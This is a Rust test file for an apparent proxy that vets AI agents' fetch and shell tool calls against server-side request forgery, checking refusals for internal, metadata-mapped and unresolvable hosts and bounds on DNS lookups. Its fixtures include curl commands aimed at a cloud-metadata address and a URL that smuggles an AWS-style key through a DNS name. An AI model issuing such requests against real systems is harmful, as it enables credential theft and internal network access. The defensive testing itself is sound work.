use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Instant;

use super::*;
use crate::config::{AuditConfig, Config, PolicyConfig};
use crate::message::Message;
use crate::protocol::{AgentName, Context, Era, UpstreamName};
use crate::proxy::judge::{OutboundOutcome, Subject};
use crate::proxy::{Gate, Policies};
use crate::record::Recorder;
use crate::rules::Library;
use crate::upstream::Upstream;

const SHORT: Duration = Duration::from_millis(200);

/// A resolver with a zone of its own, which counts the lookups.
fn zone(lookups: &Arc<AtomicUsize>) -> Resolver {
    let lookups = lookups.clone();
    Resolver::new(Arc::new(move |name| {
        lookups.fetch_add(1, Ordering::SeqCst);
        let addresses: io::Result<Vec<IpAddr>> = match &*name {
            "public.example" => Ok(vec![[93, 184, 216, 34].into()]),
            "both.example" => Ok(vec![[93, 184, 216, 34].into(), [127, 0, 0, 1].into()]),
            "inside.example" => Ok(vec![[10, 0, 0, 5].into()]),
            "mapped.example" => Ok(vec!["::ffff:169.254.169.254".parse().unwrap()]),
            "crowd.example" => Ok((0..=u32::try_from(ADDRESSES).unwrap())
                .map(|n| IpAddr::V4((0x0b00_0000 + n).into()))
                .collect()),
            "slow.example" => return Box::pin(std::future::pending()),
            _ => Err(io::ErrorKind::NotFound.into()),
        };
        Box::pin(async { addresses })
    }))
}

fn policy(resolve: Option<Duration>) -> Policy {
    let mut config = PolicyConfig::default();
    config.places.resolve = resolve;
    config.places.urls.allow =
        vec![crate::detect::url::HostPattern::read("allowed.example").unwrap()];
    Policy::new("default", &config, &Library::load(true, &[]).unwrap()).unwrap()
}

fn call(tool: &str, argument: &str, value: &str) -> String {
    let value = serde_json::to_string(value).unwrap();
    format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"{tool}","arguments":{{"{argument}":{value}}}}}}}"#
    )
}

fn recorder() -> Arc<Recorder> {
    Arc::new(Recorder::new(&AuditConfig::default()).unwrap())
}

fn gate(resolve: Option<Duration>, resolver: Resolver) -> Gate {
    let policies = Policies::from([(UpstreamName("u".into()), Arc::new(policy(resolve)))]);
    let mut gate = Gate::new(
        vec![(UpstreamName("u".into()), Upstream::faulty("none".into()))],
        policies,
        recorder(),
        &Config::default(),
    )
    .unwrap();
    gate.resolver = resolver;
    gate
}

/// Returns the rule that refuses a call, if one does.
async fn refusal(gate: &Gate, call: &str) -> Option<String> {
    let mut context = Context::new(AgentName("a".into()), UpstreamName("u".into()), Era::Legacy);
    let route = gate
        .route(gate.upstreams.get(&context.upstream).unwrap(), &mut context)
        .unwrap();
    let message = Message::parse(call.to_owned().into(), &gate.limits.read).unwrap();
    let judged = gate
        .judge(&Subject::outbound(&route, &message, &context), &route, None)
        .await
        .unwrap();
    match judged.outbound(&message).unwrap() {
        OutboundOutcome::Pass => None,
        OutboundOutcome::Refused(refused) => {
            let mut reasons = refused.reasons.into_iter().flatten();
            reasons.next().map(|reason| reason.rule)
        }
        OutboundOutcome::Ask(_) => panic!("no rule asks"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn names_are_judged_by_what_they_resolve_to() {
    let lookups = Arc::new(AtomicUsize::new(0));
    let gate = gate(Some(SHORT), zone(&lookups));
    let internal = Some("url-internal");
    let unresolved = Some("url-unresolved");
    for (url, rule) in [
        ("https://public.example/a", None),
        ("https://both.example/a", internal),
        ("https://INSIDE.example./", internal),
        ("http://mapped.example/latest", Some("url-metadata")),
        (
            "https://public.example/go?url=https://inside.example/",
            internal,
        ),
        ("https://nobody.example/", unresolved),
        ("https://crowd.example/", unresolved),
        ("https://slow.example/", unresolved),
        ("https://allowed.example/", None),
    ] {
        let found = refusal(&gate, &call("fetch", "url", url)).await;
        assert_eq!(found.as_deref(), rule, "{url}");
    }
    for (url, rule) in [
        (
            "https://mapped.example/latest",
            Some("url-metadata-command"),
        ),
        ("https://nobody.example/", unresolved),
        ("https://both.example/", None),
        ("https://public.example/", None),
    ] {
        let command = call("run_command", "command", &format!("curl -s {url}"));
        let found = refusal(&gate, &command).await;
        assert_eq!(found.as_deref(), rule, "{url}");
    }
    let text = call("send_message", "text", "see https://nobody.example/");
    assert_eq!(refusal(&gate, &text).await, None);
    let metrics = gate.recorder().metrics_text();
    assert_contains!(metrics, "lychgate_limits_hit_total{limit=\"resolve_ms\"} 1");
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_looked_up_that_need_not_be() {
    let lookups = Arc::new(AtomicUsize::new(0));
    let off = gate(None, zone(&lookups));
    let fetch = call("fetch", "url", "https://inside.example/");
    assert_eq!(refusal(&off, &fetch).await, None);
    let on = gate(Some(SHORT), zone(&lookups));
    for value in [
        "http://127.0.0.1/",
        "https://allowed.example/",
        "http://localhost/",
        "https://8.8.8.8/",
    ] {
        refusal(&on, &call("fetch", "url", value)).await;
    }
    // A lookup of a name can carry a secret out: names of a call that is refused anyway are not
    // looked up.
    let key = "https://akia2e0a8f3b244c9986.example/?key=AKIA2E0A8F3B244C9986";
    assert!(refusal(&on, &call("fetch", "url", key)).await.is_some());
    assert_eq!(lookups.load(Ordering::SeqCst), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn there_is_a_bound_on_the_names_of_a_call() {
    let lookups = Arc::new(AtomicUsize::new(0));
    let gate = gate(Some(SHORT), zone(&lookups));
    let most = crate::detect::url::NAMES;
    let urls: Vec<String> = (0..=most)
        .map(|at| format!("curl https://a{at}.example/"))
        .collect();
    let command = call("run_command", "command", &urls.join("\n"));
    let found = refusal(&gate, &command).await;
    assert_eq!(found.as_deref(), Some("url-unresolved"));
    assert_eq!(lookups.load(Ordering::SeqCst), most);
    let metrics = gate.recorder().metrics_text();
    assert_contains!(
        metrics,
        "lychgate_limits_hit_total{limit=\"resolve_names\"} 1"
    );
}

#[tokio::test]
async fn a_call_is_judged_so_however_long_it_is() {
    let lookups = Arc::new(AtomicUsize::new(0));
    let gate = gate(Some(SHORT), zone(&lookups));
    for (url, passes) in [
        ("https://inside.example/", false),
        ("https://public.example/", true),
        ("https://slow.example/", false),
    ] {
        for blanks in [0, 100_000] {
            let started = Instant::now();
            let refusal = refusal(&gate, &(call("fetch", "url", url) + &" ".repeat(blanks))).await;
            assert_eq!(refusal.is_none(), passes, "{url}");
            assert!(started.elapsed() < Duration::from_secs(20), "{url}");
        }
    }
    assert_eq!(lookups.load(Ordering::SeqCst), 6);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_late_answer_counts_only_within_the_time_of_the_config() {
    let late = || {
        Resolver::new(Arc::new(|_| {
            Box::pin(async {
                tokio::time::sleep(Duration::from_millis(300)).await;
                Ok(vec![[93, 184, 216, 34].into()])
            })
        }))
    };
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("lychgate.toml");
    for (milliseconds, rule) in [(50, Some("url-unresolved")), (10_000, None)] {
        let text =
            format!("[policy.default]\nurls = {{ resolve = true, resolve_ms = {milliseconds} }}\n");
        std::fs::write(&file, text).unwrap();
        let config = crate::config::load_policies(&file).unwrap();
        let gate = gate(config.policies["default"].places.resolve, late());
        let fetch = call("fetch", "url", "https://late.example/");
        let found = refusal(&gate, &fetch).await;
        assert_eq!(found.as_deref(), rule, "{milliseconds} ms");
    }
}
